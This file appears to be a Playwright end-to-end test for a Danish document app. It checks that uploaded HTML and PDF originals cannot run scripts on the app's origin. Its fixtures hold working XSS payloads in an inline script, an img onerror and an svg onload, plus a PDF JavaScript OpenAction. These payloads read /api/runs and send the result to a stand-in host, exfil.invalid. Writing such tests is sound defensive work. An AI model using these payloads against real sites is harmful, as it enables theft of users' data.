"""Originals opened in a real browser never run their scripts on the app's origin.

An HTML file with an inline script, an ``<img onerror>`` and an ``<svg onload>``, the same file
named ``.pdf``, and a real PDF with a JavaScript OpenAction are ingested; Chromium (Debian's,
driven by Playwright) opens each one's document page and follows every link the page offers to
the original. Each script would, if it ran on the app's origin, leave a marker in localStorage, a
cookie, a dialog, or a request carrying ``/api/runs`` to a foreign host. None may appear, and the
original must come with a sandboxing Content-Security-Policy and ``nosniff`` (and, for HTML,
as a download).
"""

import contextlib
import io
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import (
    Browser,
    BrowserContext,
    Dialog,
    Download,
    Page,
    Response,
    Route,
)
from playwright.sync_api import Error as PlaywrightError
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen.canvas import Canvas

from tests.e2e.browser import chromium
from tests.helpers import ingest

# Where the scripts send what they steal; the browser context intercepts it, nothing is sent.
EXFIL = "http://exfil.invalid"
# What each script would do on the app's origin.
PAYLOAD = (
    "localStorage.setItem('pwned', '{how}');"
    "document.cookie = 'pwned={how}; path=/';"
    "fetch('/api/runs').then(r => r.text())"
    ".then(t => fetch('" + EXFIL + "/{how}', {{method: 'POST', body: t, mode: 'no-cors'}}));"
    "alert('pwned {how}');"
)
HOSTILE_HTML = f"""<!doctype html>
<html lang="da">
<head>
<meta charset="utf-8">
<title>Inddragelse af børn &lt;img src=x onerror=alert(1)&gt;</title>
<script>{PAYLOAD.format(how="script")}</script>
</head>
<body>
<h1>Inddragelse af børn i egen sag</h1>
<p>Kommunen skal tale med barnet, før den træffer afgørelse i sagen, og barnets synspunkter skal
tillægges passende vægt efter barnets alder og modenhed. Samtalen kan holdes uden forældrenes
samtykke og uden, at de er til stede.</p>
<img src="findes-ikke.png" alt="" onerror="{PAYLOAD.format(how="img")}">
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"
 onload="{PAYLOAD.format(how="svg")}"><rect width="10" height="10"/></svg>
<p>Barnets Lov trådte i kraft den 1. januar 2024 og afløste reglerne om børn og unge i
serviceloven. Socialstyrelsen har udgivet en vejledning om børnesamtaler.</p>
</body>
</html>
"""
PDF_JAVASCRIPT = "app.alert('pwned pdf'); this.submitForm('" + EXFIL + "/pdf');"
PDF_PAGES = [
    [
        "Børnesamtaler i kommunerne",
        "Kommunen skal tale med barnet, før den træffer afgørelse i sagen.",
        "Barnets synspunkter skal tillægges passende vægt.",
    ],
    [
        "Erfaringer fra sagsbehandlerne",
        "Socialrådgiverne fortæller, at samtalerne giver et bedre grundlag for afgørelsen.",
        "Barnets Lov har gjort inddragelsen til en fast del af sagsbehandlingen.",
    ],
]


def pdf_with_javascript() -> bytes:
    """A real two-page PDF with Danish text and a JavaScript OpenAction.

    (pypdf 7 replaced ``PdfWriter.add_js`` by ``add_open_action(JavaScript(...))``.)"""
    buffer = io.BytesIO()
    canvas = Canvas(buffer, pagesize=A4)
    canvas.setTitle("Børnesamtaler i kommunerne")
    for lines in PDF_PAGES:
        y = 780.0
        for line in lines:
            canvas.drawString(72, y, line)
            y -= 20
        canvas.showPage()
    canvas.save()
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(buffer.getvalue())))
    writer.add_open_action(JavaScript(PDF_JAVASCRIPT))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


FILES = {
    "angreb.html": HOSTILE_HTML.encode(),
    "angreb-forklaedt.pdf": HOSTILE_HTML.encode(),
    "javascript.pdf": pdf_with_javascript(),
}


@pytest.fixture(scope="module")
def hostile_report(server: str, worker: Any, run_dir: Path) -> dict[str, Any]:
    folder = run_dir / "browser-originals"
    folder.mkdir(exist_ok=True)
    for name, data in FILES.items():
        (folder / name).write_bytes(data)
    report = ingest(folder)
    assert {d["filename"] for d in report["documents"]} == set(FILES), report
    return report


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as browser:
        yield browser


@dataclass
class Visit:
    """What one browser context saw while originals were opened in it."""

    context: BrowserContext
    page: Page
    dialogs: list[str] = field(default_factory=list)
    stolen: list[str] = field(default_factory=list)
    # (url, status, headers) of each response of an original, as the browser got it.
    originals: list[tuple[str, int, dict[str, str]]] = field(default_factory=list)
    downloads: list[str] = field(default_factory=list)

    def fetch_unseen(self, server: str, hrefs: list[str]) -> None:
        """Originals the browser downloaded may never show as a response event: ask for their
        headers with the context's own request client (same cookies, same origin)."""
        seen = {url.split("#")[0] for url, _status, _headers in self.originals}
        for href in {href.split("#")[0] for href in hrefs}:
            url = f"{server}{href}"
            if url not in seen:
                response = self.context.request.get(url)
                self.originals.append((url, response.status, response.headers))


@pytest.fixture
def visit(browser: Browser) -> Iterator[Visit]:
    context = browser.new_context(accept_downloads=True)
    page = context.new_page()
    seen = Visit(context, page)

    def steal(route: Route) -> None:
        seen.stolen.append(route.request.url)
        route.fulfill(status=204)

    def on_response(response: Response) -> None:
        if "/original" in response.url:
            # ``headers`` leaves out security headers such as CSP; ``all_headers()`` has them.
            seen.originals.append((response.url, response.status, response.all_headers()))

    def on_dialog(dialog: Dialog) -> None:
        seen.dialogs.append(dialog.message)
        # The page may have navigated away and taken the dialog with it.
        with contextlib.suppress(PlaywrightError):
            dialog.dismiss()

    def on_download(download: Download) -> None:
        seen.downloads.append(download.suggested_filename)

    context.route(f"{EXFIL}/**", steal)
    context.on("response", on_response)
    # Dialogs of any page of the context, including a tab an original might open.
    context.on("dialog", on_dialog)
    page.on("download", on_download)
    yield seen
    context.close()


def open_every_original_link(visit: Visit, server: str, document_id: str) -> list[str]:
    """Open the document page and follow each link to the original, one after the other.
    Returns the links' addresses."""
    page = visit.page
    document_url = f"{server}/dokument/{document_id}"
    response = page.goto(document_url)
    assert response is not None and response.status == 200, document_url
    links = page.locator("a[href*='/original']")
    hrefs = [str(links.nth(i).get_attribute("href")) for i in range(links.count())]
    assert hrefs, f"the document page offers no link to the original: {document_url}"
    for i in range(len(hrefs)):
        if page.url != document_url:
            page.goto(document_url)
        # A download leaves the page where it is; a displayed original replaces it.
        page.locator("a[href*='/original']").nth(i).click()
        page.wait_for_load_state("load")
        # Time for inline scripts and error handlers to run; Chromium's PDF viewer runs a
        # PDF's OpenAction a second or two after the page has loaded.
        page.wait_for_timeout(700 if page.url == document_url else 2500)
    visit.fetch_unseen(server, hrefs)
    return hrefs


def assert_nothing_ran(visit: Visit, server: str) -> None:
    """Back on an app page: no marker on the app's origin, no dialog, nothing sent away."""
    page = visit.page
    page.goto(f"{server}/")
    storage = page.evaluate("Object.fromEntries(Object.entries(localStorage))")
    cookies = [c for c in visit.context.cookies() if "pwned" in c["name"] + c["value"]]
    found = {
        "localStorage": {k: v for k, v in storage.items() if "pwned" in k + v},
        "cookies": cookies,
        "dialogs": visit.dialogs,
        "requests to the foreign host": visit.stolen,
    }
    assert not any(found.values()), found


def assert_originals_sandboxed(visit: Visit, download: bool) -> None:
    assert visit.originals, "the browser never fetched the original"
    for url, status, headers in visit.originals:
        policy = headers.get("content-security-policy", "")
        problems = []
        if "sandbox" not in policy:
            problems.append(f"Content-Security-Policy {policy!r} without sandbox")
        if headers.get("x-content-type-options", "").lower() != "nosniff":
            problems.append(f"X-Content-Type-Options {headers.get('x-content-type-options')!r}")
        disposition = headers.get("content-disposition", "")
        content_type = headers.get("content-type", "")
        if (download or "html" in content_type or "svg" in content_type) and not (
            disposition.lower().startswith("attachment")
        ):
            problems.append(
                f"{content_type!r} served with Content-Disposition {disposition!r}, "
                "not as an attachment"
            )
        assert not problems, (url, status, problems)


def document_id_of(report: dict[str, Any], filename: str) -> tuple[str, str]:
    [entry] = [d for d in report["documents"] if d["filename"] == filename]
    return str(entry["id"]), str(entry["status"])


def test_html_original_runs_nothing_on_our_origin(
    visit: Visit, server: str, hostile_report: dict[str, Any], run_dir: Path
) -> None:
    document_id, status = document_id_of(hostile_report, "angreb.html")
    assert status in ("indexed", "unchanged"), hostile_report
    page = visit.page
    page.goto(f"{server}/dokument/{document_id}")
    # The page shows the hostile title as text and runs nothing of it.
    assert "<img src=x onerror=alert(1)>" in page.locator("h1").inner_text()
    screenshots = run_dir / "screenshots"
    screenshots.mkdir(exist_ok=True)
    page.screenshot(path=str(screenshots / "dokument-angreb-html.png"), full_page=True)
    open_every_original_link(visit, server, document_id)
    assert_nothing_ran(visit, server)
    assert_originals_sandboxed(visit, download=True)


def test_html_named_pdf_runs_nothing_on_our_origin(
    visit: Visit, server: str, hostile_report: dict[str, Any]
) -> None:
    document_id, status = document_id_of(hostile_report, "angreb-forklaedt.pdf")
    if status in ("indexed", "unchanged"):
        open_every_original_link(visit, server, document_id)
    else:
        # Quarantined: there is no document page, but its original may still be asked for.
        try:
            visit.page.goto(f"{server}/api/documents/{document_id}/original")
        except Exception as exc:  # a download aborts the navigation
            assert "Download is starting" in str(exc), exc
        visit.page.wait_for_timeout(700)
    assert_nothing_ran(visit, server)
    visit.fetch_unseen(server, [f"/api/documents/{document_id}/original"])
    if any(status == 200 for _url, status, _headers in visit.originals):
        assert_originals_sandboxed(visit, download=True)


def test_pdf_with_javascript_runs_nothing_on_our_origin(
    visit: Visit, server: str, hostile_report: dict[str, Any]
) -> None:
    document_id, status = document_id_of(hostile_report, "javascript.pdf")
    assert status in ("indexed", "unchanged"), hostile_report
    hrefs = open_every_original_link(visit, server, document_id)
    # A PDF with scripts is not opened at a page: it is only offered as a download.
    assert hrefs == [f"/api/documents/{document_id}/original"], hrefs
    assert_nothing_ran(visit, server)
    assert_originals_sandboxed(visit, download=True)
